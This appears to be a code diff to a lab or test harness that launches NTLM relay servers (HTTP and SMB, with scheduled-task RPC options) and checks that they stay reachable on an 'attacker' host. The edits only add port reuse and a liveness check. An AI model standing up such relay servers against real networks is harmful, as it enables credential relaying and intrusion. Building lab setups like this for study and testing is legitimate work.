@@ -8,6 +8,7 @@ import logging
 import os
 import shutil
 import socket
+import socketserver
 import sys
 import tempfile
 import threading
@@ -55,12 +56,17 @@ def listens(server, port):
     config.setSMB2Support(True)
     config.setRPCOptions("TSCH", False, "", None, None)
     config.remove_target = "--remove-target" in options
-    server(config).start()
+    listening = server(config)
+    listening.start()
+    return listening
 
 
-listens(HTTPRelayServer, http_port)
-listens(SMBRelayServer, smb_port)
+# The connections of an earlier run may still be in TIME-WAIT.
+socketserver.TCPServer.allow_reuse_address = True
+servers = [listens(HTTPRelayServer, http_port), listens(SMBRelayServer, smb_port)]
 while True:
+    if not all(server.is_alive() for server in servers):
+        sys.exit("a server of ntlmrelayx has ended before it could be reached")
     try:
         for port in (http_port, smb_port):
             socket.create_connection((attacker, int(port)), 1).close()
